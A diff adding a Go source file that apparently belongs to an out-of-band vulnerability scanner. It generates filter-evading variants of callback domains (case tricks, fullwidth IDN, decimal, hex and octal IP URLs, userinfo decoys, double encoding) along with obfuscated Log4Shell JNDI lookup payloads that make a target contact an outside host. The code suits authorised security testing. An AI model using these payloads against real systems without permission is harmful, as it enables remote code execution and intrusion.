@@ -0,0 +1,188 @@
+package payloads
+
+import (
+	"encoding/binary"
+	"fmt"
+	"net"
+	"net/url"
+	"strings"
+	"unicode"
+
+	"github.com/zan8in/oobadapter/pkg/oobadapter"
+)
+
+// Variant is an alternative form of a validation domain. Every variant carries the
+// same filter, so a hit on any of them validates with ValidationDomains.Filter.
+type Variant struct {
+	Kind     string // 变体类型，比如：upper, trailing-dot, ip-decimal, jndi-lower
+	Protocol string // 命中时的协议，比如：dns, http
+	Value    string
+}
+
+// VariantOptions tunes the variants that need more than the validation domain.
+type VariantOptions struct {
+	Decoy   string // userinfo 变体中伪装的主机，默认 127.0.0.1
+	Resolve bool   // 解析 http 主机以生成 ip 形式的 url
+}
+
+// Variants returns the alternative forms of d: case changes, trailing dot, IDN forms,
+// IP-literal urls, explicit ports, url-encoded and double-encoded urls, userinfo tricks
+// and obfuscated JNDI lookups.
+func Variants(d oobadapter.ValidationDomains, opts VariantOptions) []Variant {
+	out := make([]Variant, 0)
+	add := func(kind, protocol, value string) {
+		if value != "" {
+			out = append(out, Variant{Kind: kind, Protocol: protocol, Value: value})
+		}
+	}
+
+	if d.DNS != "" {
+		add("upper", oobadapter.OOBDNS, strings.ToUpper(d.DNS))
+		add("mixed-case", oobadapter.OOBDNS, mixedCase(d.DNS))
+		add("trailing-dot", oobadapter.OOBDNS, strings.TrimSuffix(d.DNS, ".")+".")
+		add("idn-fullwidth", oobadapter.OOBDNS, fullwidth(d.DNS))
+		add("idn-ideographic-dot", oobadapter.OOBDNS, strings.ReplaceAll(d.DNS, ".", "。"))
+	}
+
+	if u, err := url.Parse(d.HTTP); err == nil && u.Host != "" {
+		out = append(out, httpVariants(d, u, opts)...)
+	}
+
+	out = append(out, jndiVariants(d)...)
+	return out
+}
+
+func httpVariants(d oobadapter.ValidationDomains, u *url.URL, opts VariantOptions) []Variant {
+	out := make([]Variant, 0)
+	add := func(kind, value string) {
+		out = append(out, Variant{Kind: kind, Protocol: oobadapter.OOBHTTP, Value: value})
+	}
+	withHost := func(host string) string {
+		v := *u
+		v.Host = host
+		return v.String()
+	}
+	host, port := u.Hostname(), u.Port()
+
+	if net.ParseIP(host) == nil {
+		add("http-upper-host", withHost(joinHostPort(strings.ToUpper(host), port)))
+		add("http-trailing-dot", withHost(joinHostPort(strings.TrimSuffix(host, ".")+".", port)))
+	}
+	if port == "" {
+		if u.Scheme == "https" {
+			add("http-explicit-port", withHost(host+":443"))
+		} else {
+			add("http-explicit-port", withHost(host+":80"))
+		}
+	}
+
+	// an ip literal drops the host, only usable when the filter is in the path
+	if token := oobadapter.FilterToken(d.Filter); token != "" && strings.Contains(strings.ToLower(u.Path), token) {
+		ip := net.ParseIP(host)
+		if ip == nil && opts.Resolve {
+			if ips, err := net.LookupIP(host); err == nil && len(ips) > 0 {
+				ip = ips[0]
+			}
+		}
+		if ip4 := ip.To4(); ip4 != nil {
+			n := binary.BigEndian.Uint32(ip4)
+			add("http-ip", withHost(joinHostPort(ip4.String(), port)))
+			add("http-ip-decimal", withHost(joinHostPort(fmt.Sprint(n), port)))
+			add("http-ip-hex", withHost(joinHostPort(fmt.Sprintf("0x%08x", n), port)))
+			add("http-ip-octal", withHost(joinHostPort(fmt.Sprintf("0%o.0%o.0%o.0%o", ip4[0], ip4[1], ip4[2], ip4[3]), port)))
+		} else if ip != nil {
+			add("http-ip", withHost(joinHostPort(ip.String(), port)))
+		}
+	}
+
+	decoy := opts.Decoy
+	if decoy == "" {
+		decoy = "127.0.0.1"
+	}
+	userinfo := *u
+	userinfo.User = url.User(decoy)
+	add("http-userinfo", userinfo.String())
+
+	raw := u.String()
+	add("http-url-encoded", url.QueryEscape(raw))
+	add("http-double-encoded", url.QueryEscape(url.QueryEscape(raw)))
+	return out
+}
+
+// jndiVariants obfuscates the "jndi" and scheme keywords with log4j lookups.
+func jndiVariants(d oobadapter.ValidationDomains) []Variant {
+	target, protocol := d.LDAP, oobadapter.OOBLDAP
+	if target == "" {
+		if d.DNS == "" {
+			return nil
+		}
+		// resolving the host of the ldap url is enough to hit the dns log
+		target, protocol = "ldap://"+d.DNS+"/a", oobadapter.OOBDNS
+	}
+	scheme, rest, ok := strings.Cut(target, "://")
+	if !ok {
+		return nil
+	}
+
+	out := make([]Variant, 0, 5)
+	add := func(kind, value string) {
+		out = append(out, Variant{Kind: kind, Protocol: protocol, Value: value})
+	}
+	add("jndi", "${jndi:"+target+"}")
+	add("jndi-lower", "${${lower:j}${lower:n}${lower:d}i:"+target+"}")
+	add("jndi-default", "${${::-j}${::-n}${::-d}${::-i}:"+target+"}")
+	add("jndi-env", "${${env:NaN:-j}ndi${env:NaN:-:}"+target+"}")
+	add("jndi-scheme", "${jndi:"+lookupEach(scheme)+"://"+rest+"}")
+	return out
+}
+
+// lookupEach writes every char of s as a ${::-c} lookup.
+func lookupEach(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		b.WriteString("${::-" + string(r) + "}")
+	}
+	return b.String()
+}
+
+func mixedCase(s string) string {
+	var b strings.Builder
+	upper := false
+	for _, r := range s {
+		if unicode.IsLetter(r) {
+			if upper {
+				r = unicode.ToUpper(r)
+			} else {
+				r = unicode.ToLower(r)
+			}
+			upper = !upper
+		}
+		b.WriteRune(r)
+	}
+	return b.String()
+}
+
+// fullwidth maps letters and digits to their fullwidth forms, which IDNA maps back to ascii.
+func fullwidth(s string) string {
+	var b strings.Builder
+	for _, r := range strings.ToLower(s) {
+		switch {
+		case r >= 'a' && r <= 'z':
+			r = r - 'a' + 'ａ'
+		case r >= '0' && r <= '9':
+			r = r - '0' + '０'
+		}
+		b.WriteRune(r)
+	}
+	return b.String()
+}
+
+func joinHostPort(host, port string) string {
+	if strings.Contains(host, ":") {
+		host = "[" + host + "]"
+	}
+	if port == "" {
+		return host
+	}
+	return host + ":" + port
+}